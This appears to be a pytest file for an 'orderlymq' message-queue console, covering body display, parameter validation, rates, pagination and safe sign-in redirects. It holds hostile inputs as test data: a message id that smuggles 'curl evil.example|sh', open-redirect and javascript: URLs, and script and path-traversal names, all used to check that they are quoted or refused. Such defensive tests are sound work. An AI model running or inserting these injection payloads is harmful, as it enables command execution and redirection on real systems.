"""Bodies, parameters, sums and words from outside are limited, and shown as what they are."""

import json
import time

import pytest
from aiohttp import web
from aiohttp.test_utils import make_mocked_request
from hypothesis import given
from hypothesis import strategies as st

from orderlymq_console.cluster import Answers, Rates, add
from orderlymq_console.collector import Reading
from orderlymq_console.models import AuditPage, Figure
from orderlymq_console.pages.blocked import Parts
from orderlymq_console.pages.bodies import SHOWN_MAX, show
from orderlymq_console.pages.findings import of_held, of_watch
from orderlymq_console.pages.groups import exact_lag
from orderlymq_console.pages.pagination import PAGE_SIZE, cut, search
from orderlymq_console.parameters import BadParameter, Parameters
from orderlymq_console.status import StatusReport, WatchReport
from orderlymq_console.web.renderer import Renderer, Who, isotime, moment, number, size, span
from orderlymq_console.web.signin import local_target
from orderlymq_protocol.body.messagequeue import MessageQueue
from orderlymq_protocol.body.stats import OffsetWrapper
from orderlymq_protocol.names import retry_topic


def test_a_body_is_json_text_or_hex_by_itself() -> None:
    """Law: a body is shown as JSON, text or hex, whichever suits, unless another form is requested."""
    forms = {
        body: show(body, "auto").form
        for body in (
            b'{"a": 1}',
            b"[]",
            b"paid",
            b"{broken",
            b"\x00\x01\x02\xff",
            b"",
            "é".encode(),
        )
    }

    assert list(forms.values()) == ["json", "json", "text", "text", "hex", "text", "text"]
    assert show(b"paid", "hex").text == f"00000000  {'70 61 69 64':<48} paid"
    assert show(b"paid", "json").form == "text"


def test_json_is_laid_out_and_its_values_stay_as_they_are_written() -> None:
    """Law: JSON is indented, but its values stay as written: no digit is lost and no escape resolved."""
    body = b'{"n":12345678901234567890.10,"s":"a\\u003cb, {}","e":[],"l":[1,{"k":null}]}'

    shown = show(body, "auto")

    assert shown.text.splitlines() == [
        "{",
        '  "n": 12345678901234567890.10,',
        '  "s": "a\\u003cb, {}",',
        '  "e": [],',
        '  "l": [',
        "    1,",
        "    {",
        '      "k": null',
        "    }",
        "  ]",
        "}",
    ]


@given(st.binary(max_size=300), st.sampled_from(["auto", "text", "json", "hex"]))
def test_any_body_is_shown_within_the_limit(body: bytes, form: str) -> None:
    """Law: any body is shown within the limit, and says when it is cut."""
    shown = show(body, form, limit=64)

    assert len(shown.text) <= 64 * 6
    assert shown.size_bytes == len(body)
    assert all(char.isprintable() or char in "\n\t" for char in shown.text)


@given(
    st.recursive(
        st.none() | st.integers() | st.text(), lambda x: st.lists(x) | st.dictionaries(st.text(), x)
    )
)
def test_json_that_is_laid_out_means_the_same(value: object) -> None:
    """Law: indented JSON has the same meaning, if it is not cut and has no character that is shown by a symbol."""
    body = json.dumps([value]).encode()
    shown = show(body, "json")
    if not shown.cut:
        assert json.loads(shown.text) == [value]


def test_deep_and_long_json_costs_no_more_than_its_limit() -> None:
    """Law: deep or long JSON costs no more than its limit."""
    for body in (b"[" * 60_000, b"[" * 5_000 + b"]" * 5_000, b'["' + b"x" * 60_000 + b'"]'):
        shown = show(body, "auto")
        assert len(shown.text) <= SHOWN_MAX
        assert shown.cut


@pytest.mark.parametrize(
    "text", ["x", "1.5", "-1", "9" * 30, "9223372036854775808", "١", "1e3", "0x10"]
)
def test_a_number_in_another_form_is_refused(text: str) -> None:
    """Law: a number of another form is refused with its parameter's name."""
    with pytest.raises(BadParameter, match="offset"):
        Parameters({"offset": text}).number("offset", 0)


@pytest.mark.parametrize(
    "text", ["broker-a", ":1", "broker-a:x", "broker-a:-1", "a\x00b:1", "b:9999999999"]
)
def test_a_queue_in_another_form_is_refused(text: str) -> None:
    with pytest.raises(BadParameter):
        Parameters({"queue": text}).queue("queue")


@pytest.mark.parametrize("text", ["", "a b", "<script>", "x" * 300, "../etc"])
def test_a_name_that_no_topic_has_is_refused(text: str) -> None:
    with pytest.raises(BadParameter):
        Parameters({"topic": text}).name("topic")


def test_a_sum_is_unknown_or_a_lower_bound_where_a_part_is_missing() -> None:
    """Law: a sum with a missing part is unknown or a lower bound, never zero."""
    known: Reading[int] = Reading(3, "", 0.0)
    silent: Reading[int] = Reading(None, "no answer within 4 s", 0.0)

    assert Answers({"a": known}).total(float) == Figure(value=3)
    assert Answers({"a": known, "b": silent}).total(float) == Figure(value=3, at_least=True)
    zero: Reading[int] = Reading(0, "", 0.0)
    reason = "b: no answer within 4 s"
    assert Answers({"a": zero, "b": silent}).total(float) == Figure(unknown=reason)
    assert Answers({"a": zero}).total(float) == Figure(value=0)
    assert Answers({"b": silent}).total(float) == Figure(unknown="b: no answer within 4 s")
    assert Answers({"a": known}).total(lambda _: None, lambda _: "why") == Figure(unknown="why")
    assert add([Figure(value=1), Figure(unknown="x")]) == Figure(value=1, at_least=True)
    assert add([Figure(unknown="x")]) == Figure(unknown="x")


def test_a_command_to_copy_holds_an_id_as_one_word() -> None:
    """Law: in a command to copy, an id is quoted as one word, because a producer chose it."""
    letter = {"group": "billing", "topic": "orders", "messageId": "ID;curl evil.example|sh"}
    watch = {"examinedAt": 1, "blockedKnown": True, "failing": [letter]}

    (trouble,) = of_watch(WatchReport.model_validate(watch))

    assert trouble.todo == "orderlymq message show 'ID;curl evil.example|sh' --topic orders"


def test_keys_that_wait_for_a_release_are_named_by_their_group() -> None:
    """Law: what the headline counts as waiting for a release is listed, with the group and the next step."""
    lanes = [{"group": "billing", "state": each, "lanes": 2} for each in ("inHand", "held")]
    keys = [
        {"group": "billing", "keys": 3},
        {"group": "audit", "keys": 1},
        {"group": "b", "keys": 0},
    ]
    watch = {"examinedAt": 1, "blockedKnown": True, "parkedKeys": keys, "lanes": lanes}

    found = [*of_held(WatchReport.model_validate(watch))]

    assert [each.text for each in found] == [
        "1 key waits for a release in group audit.",
        "5 keys wait for a release in group billing.",
    ]
    assert all("release" in each.todo and each.link == "/blocked" for each in found)


def test_a_rate_takes_two_looks_and_begins_again_with_a_new_leader() -> None:
    """Law: a rate needs two looks, and begins again if the counter falls (a new leader)."""
    rates = Rates()

    def look(at_s: float, count: int) -> Figure:
        rates.note("a", Reading(StatusReport(counters={"messages_in": count}), "", at_s))
        return rates.per_second("a", "messages_in", at_s)

    assert look(1.0, 100).value is None
    assert look(1.0, 100).value is None
    assert look(3.0, 150) == Figure(value=25)
    assert look(4.0, 7).value is None
    assert look(5.0, 17) == Figure(value=10)
    assert rates.per_second("a", "messages_in", 500.0).value is None


def test_another_leader_is_another_counter_also_when_it_has_counted_more() -> None:
    """Law: after a change of leader the rate begins again, even if the new counter is larger."""
    rates = Rates()

    def look(at_s: float, leader: int, count: int) -> Figure:
        status = StatusReport(leader=leader, term=leader, counters={"messages_in": count})
        rates.note("a", Reading(status, "", at_s))
        return rates.per_second("a", "messages_in", at_s)

    look(1.0, 1, 100)
    assert look(2.0, 1, 110) == Figure(value=10)
    assert look(3.0, 2, 9_000_000).value is None
    assert look(4.0, 2, 9_000_010) == Figure(value=10)


def test_lists_are_searched_and_cut_here() -> None:
    """Law: lists are searched and cut in the console: names that begin with the text come first,
    and a page beyond the end is the last one.
    """
    names = [f"topic-{number}" for number in range(10_000)]

    assert search(["my-orders", "orders", "x"], "ORD", str) == ["orders", "my-orders"]
    last = cut(names, Parameters({"page": "999999"}))
    assert (last.number, last.pages, last.total, len(last.items)) == (200, 200, 10_000, PAGE_SIZE)
    assert cut([], Parameters({})).pages == 1


def test_numbers_times_and_sizes_read_well() -> None:
    assert [
        number(value) for value in (0, 1234567, 4.25, Figure(value=12, at_least=True), None)
    ] == [
        "0",
        "1,234,567",
        "4.2",
        "≥ 12",
        "unknown",
    ]
    assert [span(value) for value in (0.2, 59, 61, 3_725, 90_000, None)] == [
        "0 s",
        "59 s",
        "1 min 1 s",
        "1 h 2 min",
        "1 d 1 h",
        "unknown",
    ]
    assert [size(value) for value in (10, 2048, 5 << 30)] == ["10 B", "2.0 KiB", "5.0 GiB"]
    assert [moment(value) for value in (None, 0, -1, 2**62)] == ["–"] * 4
    assert moment(1_700_000_000_000) == "2023-11-14 22:13:20Z"
    assert [isotime(value) for value in (0, -1, 2**62, -(2**62), 2**47)] == [""] * 5
    assert isotime(1_700_000_000_000) == "2023-11-14T22:13:20.000+00:00"


def test_every_time_says_that_it_is_of_utc() -> None:
    """Law: each shown time says UTC, even one of today without its date."""
    now_ms = int(time.time() * 1000)
    shown = moment(now_ms)

    assert shown in isotime(now_ms).replace("T", " ").replace(".", "Z")
    assert shown.endswith("Z")


@pytest.mark.parametrize(
    "target",
    ["https://evil.example/", "//evil.example", "/\\evil.example", "javascript:alert(1)", "x", ""],
)
def test_signing_in_leads_nowhere_else(target: str) -> None:
    assert local_target(target) == "/"


def test_signing_in_leads_back() -> None:
    assert local_target("/groups/billing?page=2") == "/groups/billing?page=2"


def test_the_lag_of_a_group_is_what_its_members_may_consume() -> None:
    """Law: a group's lag counts topics that its members want; if nobody is online, all topics."""
    queues = {
        MessageQueue(topic, "a", 0): OffsetWrapper(broker_offset=end, consumer_offset=0)
        for topic, end in (("orders", 2), ("former", 7), (retry_topic("billing"), 1))
    }
    parts = Parts(Answers({"a": Reading(queues, "", 0.0)}), Answers({}), Answers({}), Answers({}))
    nothing = Figure(unknown="nobody answers")

    assert exact_lag(parts, nothing, {"orders": "*"}) == Figure(value=3)
    assert exact_lag(parts, nothing, {}) == Figure(value=10)


def test_the_link_to_the_json_of_a_page_names_the_same_thing() -> None:
    """Law: a page's link to its JSON names the same object, even if the name has characters to escape (dead-letter
    topics).
    """
    request: web.Request = make_mocked_request("GET", "/topics/%25DLQ%2541bc")
    page = AuditPage(lines=())

    html = Renderer("", read_only=True).page("audit.html", request, Who(), page=page).text or ""

    assert 'href="/api/topics/%25DLQ%2541bc"' in html
